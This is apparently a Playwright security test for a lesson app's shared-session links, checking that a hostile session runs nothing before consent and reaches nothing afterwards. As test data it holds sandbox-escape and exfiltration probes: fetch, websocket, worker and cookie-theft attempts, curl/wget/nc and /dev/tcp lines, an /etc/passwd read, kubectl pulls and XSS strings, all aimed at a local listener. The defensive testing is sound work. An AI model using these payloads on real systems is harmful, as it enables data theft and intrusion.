/** A link with a hostile session: nothing runs before a click, and what then runs gets nothing and nowhere. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { linkOf, type SharedSession } from '../../src/lesson/share/link.ts';
import type { Input, InputRequest } from '../../src/session/types.ts';
import { port } from './serve.ts';
import { awake, button, cell, lesson, notice, outputOf, runCell } from './steps.ts';

/** Somebody's server, which must hear nothing: HTTP and websockets both begin with a connection. */
let server: Server;
let hits: string[] = [];
let host = '';
test.beforeAll(async () => {
  server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('globalThis.leaked = true');
  });
  server.on('connection', () => hits.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => void server.close());

/** Tries everything, through whatever names the realm's own global has; tells what it got. Runs wherever code can be. */
const attack = (where: string): string => `
const real = (() => { try { return (0, eval)('globalThis'); } catch { return Function('return this')(); } })();
const also = (() => { try { return (() => {}).constructor('return this')(); } catch { return real; } })();
const url = 'http://${host}/${where}';
const got = {};
(real.reached ??= {})['${where}'] = got;
const attempt = (name, run) => { try { const value = run(real); got[name] = typeof value; if (value && value.then) value.then(() => { got[name] = 'REACHED'; }, () => { got[name] = 'refused'; }); } catch (error) { got[name] = 'refused'; } };
attempt('fetch', (g) => g.fetch(url));
attempt('fetchNoCors', (g) => g.fetch(url, { mode: 'no-cors', keepalive: true }));
attempt('fetchOther', () => also.fetch(url + '-other'));
attempt('xhr', (g) => { const x = new g.XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; });
attempt('socket', (g) => { new g.WebSocket('ws://${host}/${where}').onopen = () => { got.socket = 'REACHED'; }; });
attempt('events', (g) => { new g.EventSource(url).onopen = () => { got.events = 'REACHED'; }; });
attempt('transport', (g) => new g.WebTransport('https://${host}/').ready);
attempt('module', () => (0, eval)('import(' + JSON.stringify(url + '.js') + ')'));
attempt('dataModule', () => (0, eval)('import("data:text/javascript,fetch(\\'' + url + '-data\\')")'));
attempt('blobModule', (g) => (0, eval)('import')(g.URL.createObjectURL(new g.Blob(['fetch("' + url + '-blob")'], { type: 'text/javascript' }))));
attempt('script', (g) => g.importScripts(url + '-script.js'));
attempt('worker', (g) => { new g.Worker(g.URL.createObjectURL(new g.Blob(['fetch("' + url + '-worker"); new WebSocket("ws://${host}/nested")'], { type: 'text/javascript' }))); });
attempt('shared', (g) => { new g.SharedWorker(url + '-shared.js'); });
attempt('beacon', (g) => { if (g.navigator.sendBeacon(url)) got.beacon = 'REACHED'; });
attempt('service', (g) => g.navigator.serviceWorker.register(url + '-service.js'));
attempt('rtc', (g) => { new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }).createDataChannel('x'); got.rtc = 'REACHED'; });
attempt('image', (g) => { new g.Image().src = url + '-image'; got.image = 'REACHED'; });
attempt('open', (g) => { if (g.open(url)) got.open = 'REACHED'; });
attempt('link', (g) => { const l = g.document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + '${host}'; g.document.head.append(l); got.link = 'REACHED'; });
attempt('database', (g) => { g.indexedDB.open('keyval-store').onsuccess = () => { got.database = 'REACHED'; }; });
attempt('caches', (g) => g.caches.open('x'));
attempt('files', (g) => g.navigator.storage.getDirectory());
attempt('cookie', (g) => { got.cookie = g.document.cookie; g.document.cookie = 'stolen=1'; });
attempt('cookieStore', (g) => g.cookieStore.getAll());
attempt('local', (g) => { g.localStorage.setItem('stolen', '1'); got.local = 'REACHED'; });
attempt('channel', (g) => { new g.BroadcastChannel('converge').postMessage('${where}'); });
attempt('parent', (g) => { got.parent = String(g.parent.document.title); });
attempt('top', (g) => { g.top.location = url + '-top'; got.top = 'REACHED'; });
attempt('post', (g) => g.postMessage({ type: 'converge-frame', message: '${where}' }));
attempt('font', (g) => new g.FontFace('x', 'url(' + url + '-font)').load());
attempt('dataFetch', (g) => g.fetch('data:text/plain,x'));
attempt('locks', (g) => g.navigator.locks.request('converge', () => 1));
attempt('notification', (g) => { new g.Notification('x'); got.notification = 'REACHED'; });
attempt('shared memory', (g) => { const s = new g.SharedArrayBuffer(8); got['shared memory'] = 'REACHED'; return s; });
attempt('prototypes', () => { Object.defineProperty({}.__proto__, 'polluted', { value: '${where}', configurable: true }); });
attempt('constructor', () => { JSON.parse('{"__proto__":{"polluted":"json"}}'); });`;

/** A plugin of the scheduler, and the built-in scheduler's own answer. */
const plugin = (): string => `${attack('plugin')}
export default { name: 'NodeName', filter() { ${attack('filter')} return undefined; }, score() { ${attack('score')} return 1; } };`;

/** What every place has got: they share a realm, so the last of them can say it for all. */
const tellAll = `print(JSON.stringify(Function('return this')().reached));`;
const programs = (from: string): string =>
  `curl -s http://${host}/${from}; wget -qO- http://${host}/${from}; nc ${host.replace(':', ' ')}; node -e 'fetch("http://${host}/${from}")'; exec 3<>/dev/tcp/${host.replace(':', '/')}; echo "$(</etc/passwd)"`;
const slow = `await sleep(50);`;
const controller = (): string => `import { ReplicaSet } from 'converge/sdk';
import './other.ts';
${attack('controller')}
export default { name: 'replicaset', for: ReplicaSet, async reconcile() { ${attack('reconcile')} } };`;

/** Made when the server's address is known. */
const inputs = (): readonly InputRequest[] => [
  { type: 'edit', path: 'other.ts', text: `${attack('import')}\nexport {};` },
  { type: 'edit', path: 'evil.ts', text: controller() },
  { type: 'swap', controller: 'replicaset', entry: 'evil.ts' },
  { type: 'edit', path: 'plugin.ts', text: plugin() },
  { type: 'swap', controller: 'scheduler/NodeName', entry: 'plugin.ts' },
  { type: 'edit', path: 'attack.sh', text: `${programs('file')}\n` },
  { type: 'command', text: 'kubectl run unowned --image=nginx' },
  {
    type: 'command',
    text: `kubectl run inside --image=curlimages/curl --restart=Never --command -- sh -c 'curl -s -m 2 http://${host}/pod; wget -T 2 -qO- http://${host}/pod'`,
  },
  {
    type: 'manifest',
    path: 'web.yaml',
    cell: 'apply',
    text: `apiVersion: apps/v1
kind: ReplicaSet
metadata: { name: web, annotations: { x: '<img src=http://${host}/annotation onerror=alert(1)>' } }
spec: { replicas: 1, selector: { matchLabels: { app: web } }, template: { metadata: { labels: { app: web } }, spec: { containers: [{ name: c, image: 'http://${host}/image' }] } } }
`,
  },
  {
    type: 'command',
    cell: 'list',
    text: `kubectl apply -f http://${host}/kubectl; kubectl run x --image=${host}/image; curl http://${host}/curl; wget ${host}; echo '<script src=http://${host}/echo></script>'; sh attack.sh; . ./attack.sh; sleep 5; kubectl logs inside; kubectl exec unowned -- sh -c 'curl -s -m 2 http://${host}/exec'`,
  },
  { type: 'script', cell: 'owners', source: `${attack('script')}\n${slow}\n${tellAll}` },
];
const shared = (more: readonly InputRequest[] = inputs()): SharedSession => ({
  lesson: '12-replicaset',
  lessonHash: '00000000',
  log: { version: 1, seed: 1, cluster: { nodes: 3 }, files: {}, inputs: more.map((each, at): Input => ({ ...each, at })) },
  files: { 'reconcile.ts': `${attack('exercise')}\n` },
  cells: { owners: '<img src=x onerror=alert(1)>' },
  free: [],
});

const site = `127.0.0.1:${port}`;

/** Requests to anywhere but the site, and what the page's own things have become. */
function watch(page: Page): string[] {
  const requests: string[] = [];
  page.context().on('request', (request) => {
    const { protocol, host: to } = new URL(request.url());
    if (!protocol.startsWith('http') || to === site) return;
    requests.push(request.url());
    // The policy has refused it before it went anywhere.
    page.context().on('requestfailed', (failed) => {
      if (failed === request && failed.failure()?.errorText === 'csp') requests.splice(requests.indexOf(request.url()), 1);
    });
  });
  page.on('dialog', (dialog) => {
    requests.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => requests.push(`popup: ${popup.url()}`));
  page.on('websocket', (socket) => requests.push(`socket: ${socket.url()}`));
  return requests;
}

const asked = (page: Page) => page.getByRole('dialog', { name: 'Someone else’s session' });

test('a hostile link runs nothing before a click, and then gets nothing and nowhere', async ({ page, context }) => {
  hits = [];
  await page.goto(lesson);
  await awake(cell(page, 'apply'));
  await runCell(page, 'apply');
  const own = await outputOf(page, 'apply').innerText();
  await context.addCookies([{ name: 'own', value: '1', url: `http://${site}` }]);
  await page.evaluate(() => localStorage.setItem('own', 'secret'));
  const requests = watch(page);
  const fragment = linkOf(shared());
  if (fragment === undefined) throw new Error('too long');

  await test.step('it says what is in it and waits; no engine runs', async () => {
    await page.goto('about:blank');
    await page.goto(`${lesson}#${fragment}`);
    await expect(asked(page)).toBeVisible();
    await expect(asked(page)).toContainText('It runs 11 inputs');
    await asked(page).getByText('Writes evil.ts').click();
    await expect(asked(page)).toContainText('SharedArrayBuffer');
    await expect(page.locator('iframe')).toHaveCount(0);
  });

  await test.step('declined, one’s own work is there', async () => {
    await button(asked(page), 'Open my own instead').click();
    await expect(page).toHaveURL(new RegExp(`${lesson}$`));
    await awake(cell(page, 'apply'));
    await expect(cell(page, 'apply')).toHaveClass(/fresh/);
    expect(await outputOf(page, 'apply').innerText()).toBe(own);
  });

  await test.step('agreed to, it runs, and reaches nothing', async () => {
    await page.goto('about:blank');
    await page.goto(`${lesson}#${fragment}`);
    await button(asked(page), 'Run their session').click();
    await expect(page.locator('.shared-bar')).toContainText('your own work is untouched');
    await awake(cell(page, 'owners'));
    await expect(cell(page, 'owners')).toHaveClass(/stale|fresh/, { timeout: 60_000 });
    const text = await outputOf(page, 'owners').locator('pre').innerText();
    const all: Record<string, Record<string, string>> = JSON.parse(text.slice(text.indexOf('{')));
    // A module, a reconcile, a plugin as it is loaded and as it is asked, what they import, and a cell.
    expect(Object.keys(all).sort()).toEqual(['controller', 'filter', 'import', 'plugin', 'reconcile', 'score', 'script']);
    for (const [where, got] of Object.entries(all)) {
      expect([where, Object.entries(got).filter(([, value]) => value === 'REACHED')]).toEqual([where, []]);
      expect(got).toMatchObject({ fetch: 'refused', xhr: 'refused', module: 'refused', script: 'refused', caches: 'refused' });
      expect(Object.keys(got).length).toBeGreaterThan(34);
    }
    // Commands, files of commands and containers say what they could not reach.
    await awake(cell(page, 'list'));
    await expect(outputOf(page, 'list')).toContainText('curl');
    expect(await outputOf(page, 'list').innerText()).not.toMatch(/leaked|root:/);
  });

  await test.step('the page is as it was', async () => {
    const state = await page.evaluate(() => ({
      polluted: Reflect.get({}, 'polluted'),
      stolen: localStorage.getItem('stolen'),
      own: localStorage.getItem('own'),
      cookie: document.cookie,
      leaked: Reflect.get(globalThis, 'leaked'),
      title: document.title,
      images: document.querySelectorAll('img').length,
    }));
    expect(state).toMatchObject({ own: 'secret', cookie: 'own=1', images: 0, stolen: null });
    expect([state.polluted, state.leaked]).toEqual([undefined, undefined]);
    expect(context.pages().length).toBe(1);
    await expect.poll(() => requests).toEqual([]);
    expect(hits).toEqual([]);
  });

  await test.step('back to mine: nothing of theirs has stayed', async () => {
    await button(page, 'Back to mine').click();
    await awake(cell(page, 'apply'));
    await expect(cell(page, 'apply')).toHaveClass(/fresh/);
    expect(await outputOf(page, 'apply').innerText()).toBe(own);
    await expect(page.locator('.shared-bar')).toHaveCount(0);
  });
});

test('an endless loop and a memory that grows without end are survived', async ({ page }) => {
  const requests = watch(page);
  const open = async (source: string): Promise<void> => {
    await page.goto('about:blank');
    await page.goto(`${lesson}#${linkOf(shared([{ type: 'script', cell: 'owners', source }]))}`);
    await button(asked(page), 'Run their session').click();
    await expect(notice(page)).toHaveText(/ran without end|stopped answering|needed more memory/, { timeout: 60_000 });
    await button(page, 'Back to mine').click();
    await awake(cell(page, 'apply'));
    await runCell(page, 'apply');
    await expect(cell(page, 'apply')).toHaveClass(/fresh|unquiet/);
  };
  await open('for (;;) {}');
  await open('const held = []; for (;;) held.push(new Array(1e6).fill(held.length));');
  expect(requests).toEqual([]);
});

test('a link that can’t be read says so, and the page opens without it', async ({ page }) => {
  await page.goto(`${lesson}#session=1.abc.AAAA`);
  const refused = page.getByRole('dialog', { name: 'This link can’t be opened' });
  await expect(refused).toContainText('cut off or changed on its way');
  await button(refused, 'Open the page without it').click();
  await expect(page).toHaveURL(new RegExp(`${lesson}$`));
  await expect(page.getByRole('dialog')).toHaveCount(0);
});
